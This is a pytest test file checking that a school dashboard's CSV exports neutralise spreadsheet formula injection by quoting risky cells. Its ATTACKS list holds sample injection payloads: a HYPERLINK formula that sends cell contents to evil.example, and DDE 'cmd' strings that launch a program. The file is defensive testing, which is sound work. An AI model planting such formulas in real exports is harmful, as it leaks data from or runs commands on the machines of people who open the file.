"""CSV exports never hold a cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pandas as pd
import pytest

from app_dashboard.tables import csv_bytes, list_frame
from serving.csv_safety import safe_cell, safe_frame
from serving.services.views import ListEntryView, ReasonView, WeekListView

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
    "+33 6 00 00 00 00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_a_formula_cell_is_written_as_text(value: str) -> None:
    assert safe_cell(value) == "'" + value


def test_other_cells_and_numbers_are_left_alone() -> None:
    assert safe_cell("Dupont-Martin") == "Dupont-Martin"
    assert safe_cell(-3.2) == -3.2
    frame = safe_frame(pd.DataFrame({"=x": ["=1+1", "ok"], "change": [-3.2, 1.0]}))
    assert list(frame.columns) == ["'=x", "change"]
    assert frame["'=x"].tolist() == ["'=1+1", "ok"]
    assert frame["change"].tolist() == [-3.2, 1.0]


def test_the_weekly_list_export_neutralises_names_and_reasons() -> None:
    reason = ReasonView(
        feature="lates_4w",
        value=5,
        reference=1,
        share=0.4,
        text_fr="@5 retards",
        text_en="@5 lates",
    )
    entries = [
        ListEntryView(
            rank=1,
            tier="invite",
            student_id="S1",
            last_name=ATTACKS[0],
            first_name="Léa",
            risk=0.61,
            risk_change=-0.05,
            new_this_week=False,
            interview_under_way=False,
            dismissed_recently=False,
            reasons=[reason],
            features_shown={"level": "-3e", "class_id": "=A1"},
        )
    ]
    view = WeekListView(
        uai="0350023K",
        establishment_name="Collège",
        week=dt.date(2025, 3, 3),
        as_of=dt.date(2025, 3, 3),
        model_version="vigie-dropout/1",
        weekly_interview_capacity=4,
        watch_threshold=0.3,
        entries=entries,
        written_at=dt.datetime(2025, 3, 3, 6, tzinfo=dt.UTC),
    )
    data = csv_bytes(list_frame(view, None, "fr"), "fr").decode("utf-8-sig")
    [row] = list(csv.DictReader(io.StringIO(data), delimiter=";"))
    assert row["Élève"] == "'" + ATTACKS[0] + " Léa"
    assert row["Raisons"] == "'@5 retards"
    assert row["Niveau"] == "'-3e" and row["Classe"] == "'=A1"
    assert row["Évolution depuis la liste précédente (points)"] == "-5,0"  # a number stays one
    for line in data.splitlines()[1:]:
        for cell in next(csv.reader([line], delimiter=";")):
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
